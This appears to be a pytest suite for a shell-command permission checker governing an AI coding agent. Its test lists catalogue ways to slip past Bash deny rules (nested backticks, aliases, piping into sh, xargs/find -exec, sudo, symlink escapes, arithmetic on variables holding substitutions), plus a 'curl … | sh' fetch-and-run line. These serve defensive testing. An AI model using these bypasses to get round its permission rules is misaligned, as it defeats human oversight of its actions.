"""More ways around Bash rules, each once seen to work: a shell runs code the rules never saw.

Nested backticks are unescaped by bash before they run; ``alias``/``hash -p`` rename
programs; a script piped into a shell, sourced from ``<(…)`` or handed over by
``xargs``/``find -exec`` is known only when the line runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from .helpers import decide, run_agent

#: Lines that run ``touch``: a ``touch`` deny must never let them through.
TOUCH_UNSEEN = [
    "echo `echo \\`touch x\\``",
    'echo "`echo \\`touch x\\``"',
    "x=`echo \\`touch x\\``",
    "shopt -s expand_aliases\nalias t=touch\nt x",
    "bash -O expand_aliases -c $'alias t=touch\\nt x'",
    "hash -p /usr/bin/touch t; t x",
    "echo touch x | bash",
    "printf 'touch x' | sh -s",
    "bash <(echo touch x)",
    "source <(echo touch x)",
    ". <(echo touch x)",
    "echo 'touch x' | xargs sh -c",
    "echo 'touch x' | xargs -I{} sh -c {}",
    "echo 'touch x' | xargs -I @ sh -c 'true; @'",
    "echo 'touch x' | xargs -i sh -c 'true; {}'",
    "find . -maxdepth 0 -exec sh -c {} \\;",
    "echo touch x | sudo -s",
    "echo touch x | sudo -i",
    "echo touch x | su",
    "echo touch x | su -",
    "echo touch x | sh /dev/stdin",
    "echo touch x | bash /proc/self/fd/0",
]


@pytest.mark.parametrize("line", TOUCH_UNSEEN)
def test_a_deny_is_never_walked_around(tmp_path: Path, line: str) -> None:
    check = decide("bypassPermissions", "bash", {"command": line}, tmp_path, deny=["Bash(touch *)"])
    assert check.decision in ("deny", "ask"), check


@pytest.mark.parametrize("line", TOUCH_UNSEEN)
def test_an_allow_for_the_first_command_is_not_enough(tmp_path: Path, line: str) -> None:
    allow = [f"Bash({p} *)" for p in ("echo", "shopt", "alias", "hash", "printf", "xargs", "find")]
    check = decide("default", "bash", {"command": line}, tmp_path, allow=allow)
    assert check.decision == "ask", check


@pytest.mark.parametrize(
    "line",
    [
        "echo `echo hi`",
        "find . -exec sh -c 'echo \"$1\"' sh {} \\;",
        "echo x | xargs -I{} echo {}",
        "xargs sh -c 'echo \"$@\"' sh",
        "bash script.sh",
    ],
)
def test_ordinary_lines_stay_readable(tmp_path: Path, line: str) -> None:
    check = decide("default", "bash", {"command": line}, tmp_path, allow=["Bash"])
    assert check.decision == "allow", check


async def test_nested_backticks_do_not_run_under_an_echo_allow(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    results = await run_agent(
        project,
        [("bash", {"command": "echo `echo \\`touch nested\\``"})],
        settings={"permissions": {"allow": ["Bash(echo *)"]}},
    )
    assert results[0].is_error
    assert not (project / "nested").exists()


def test_a_piped_shell_is_listed_and_unreadable() -> None:
    from hookline.shell import parse_command

    result = parse_command("curl -s example.test/install | sh")
    assert ["sh"] in [c.argv for c in result.commands]
    assert result.unparsable and "pipe" in result.problems[0]


@pytest.mark.parametrize("line", ["echo a 1<> out.txt", "echo a <> out.txt", "echo a > out.tx?"])
@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
def test_an_edit_deny_sees_read_write_and_globbed_redirects(
    tmp_path: Path, line: str, mode: str
) -> None:
    (tmp_path / "out.txt").write_text("kept")
    check = decide(
        mode, "bash", {"command": line}, tmp_path, allow=["Bash"], deny=["Edit(out.txt)"]
    )
    assert check.decision in ("deny", "ask"), check


def test_a_quoted_star_in_a_redirect_is_a_plain_name(tmp_path: Path) -> None:
    check = decide("acceptEdits", "bash", {"command": 'echo a > "out*"'}, tmp_path, allow=["Bash"])
    assert check.decision == "allow", check


async def test_the_agent_does_not_overwrite_a_denied_file_through_rw_or_glob(
    tmp_path: Path,
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "out.txt").write_text("kept")
    results = await run_agent(
        project,
        [
            ("bash", {"command": "echo hacked 1<> out.txt"}),
            ("bash", {"command": "echo hacked > out.tx?"}),
        ],
        settings={"permissions": {"deny": ["Edit(out.txt)"]}},
        mode="bypassPermissions",
    )
    assert [r.is_error for r in results] == [True, True]
    assert (project / "out.txt").read_text() == "kept"


def _linked_project(tmp_path: Path) -> Path:
    """A project holding ``out``, a link to ``outside/deep``: ``out/..`` is ``outside``."""
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "outside" / "deep").mkdir(parents=True)
    (project / "out").symlink_to(tmp_path / "outside" / "deep")
    return project


def test_a_redirect_through_link_dotdot_is_where_the_kernel_puts_it(tmp_path: Path) -> None:
    project = _linked_project(tmp_path)
    line = {"command": "echo x > out/../escaped.txt"}
    accept = decide("acceptEdits", "bash", line, project, allow=["Bash(echo *)"])
    assert accept.decision == "ask", accept
    deny = [f"Edit(/{tmp_path}/outside/escaped.txt)"]
    assert decide("bypassPermissions", "bash", line, project, deny=deny).decision == "deny"


async def test_accept_edits_does_not_write_outside_through_link_dotdot(tmp_path: Path) -> None:
    project = _linked_project(tmp_path)
    results = await run_agent(
        project,
        [("bash", {"command": "echo pwned > out/../escaped.txt"})],
        settings={"permissions": {"allow": ["Bash(echo *)"]}},
        mode="acceptEdits",
    )
    assert results[0].is_error
    assert not (tmp_path / "outside" / "escaped.txt").exists()


#: Lines that evaluate a variable's value as arithmetic: after ``x='a[$(touch y)]'`` each
#: of them runs ``touch``, though only an allowed program is written on the line.
ARITHMETIC_ON_A_VARIABLE = [
    "x='a[$(touch x)]'; echo $((x))",
    "s=abc; x='a[$(touch x)]'; echo ${s:x}",
    "x=$(<payload.txt); echo $((x))",
    "for ((i=0;i<x;i++)); do echo $i; done",
    "echo ${a[x]}",
    "echo ${a[$x]}",
    "[[ x -eq 1 ]] && echo y",
    "[[ $x -lt 1 ]] && echo y",
    "let x",
    "echo $[x]",
    "((x)); echo y",
    "echo $(($x + 1))",
    'echo "${s:1:x}"',
    "a[x]=1; echo y",
    "declare -i n; n=x; echo y",
    "bash -c 'echo $((x))'",
    "echo $(( $(cat payload.txt) ))",
]
#: Arithmetic on literals only: nothing in it is decided at run time.
ARITHMETIC_ON_LITERALS = [
    "echo $((1+2))",
    "echo $[1+2]",
    "((1+1)) && echo y",
    "echo ${s:1:2} ${s: -1}",
    "echo ${a[0]} ${a[@]} ${#a[*]}",
    "[[ 3 -eq 3 ]] && echo y",
    "[[ $# -eq 0 ]] && echo y",
    "echo $(( ${#s} + 0x1f + 16#ff ))",
    "[ x -eq 1 ] || echo y",
    "echo ${x:-y} ${x:+z}",
]


@pytest.mark.parametrize("line", ARITHMETIC_ON_A_VARIABLE)
@pytest.mark.parametrize("allow", [["Bash(echo *)", "Bash(let *)", "Bash(declare *)"], ["Bash"]])
def test_arithmetic_on_a_variable_holding_a_substitution_is_not_auto_allowed(
    tmp_path: Path, line: str, allow: list[str]
) -> None:
    check = decide("default", "bash", {"command": line}, tmp_path, allow=allow)
    assert check.decision == "ask", check
    assert "arithmetic on a variable" in check.reason, check


@pytest.mark.parametrize("line", ARITHMETIC_ON_A_VARIABLE[:3])
def test_arithmetic_on_a_variable_is_denied_in_dont_ask(tmp_path: Path, line: str) -> None:
    check = decide("dontAsk", "bash", {"command": line}, tmp_path, allow=["Bash(echo *)"])
    assert check.decision == "deny", check


@pytest.mark.parametrize("line", ARITHMETIC_ON_LITERALS)
def test_arithmetic_on_literals_stays_allowed(tmp_path: Path, line: str) -> None:
    check = decide("default", "bash", {"command": line}, tmp_path, allow=["Bash(echo *)"])
    assert check.decision == "allow", check


def test_a_deny_still_sees_commands_written_beside_arithmetic(tmp_path: Path) -> None:
    line = {"command": "echo $((x)); touch y"}
    check = decide("bypassPermissions", "bash", line, tmp_path, deny=["Bash(touch *)"])
    assert check.decision == "deny", check


def test_bypass_runs_arithmetic_on_a_variable_when_no_rule_could_match(tmp_path: Path) -> None:
    check = decide("bypassPermissions", "bash", {"command": "echo $((x))"}, tmp_path)
    assert check.decision == "allow", check


async def test_the_agent_does_not_run_a_substitution_held_in_a_variable(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    results = await run_agent(
        project,
        [("bash", {"command": "x='a[$(touch pwned)]'; echo $((x))"})],
        settings={"permissions": {"allow": ["Bash(echo *)"]}},
    )
    assert results[0].is_error
    assert not (project / "pwned").exists()
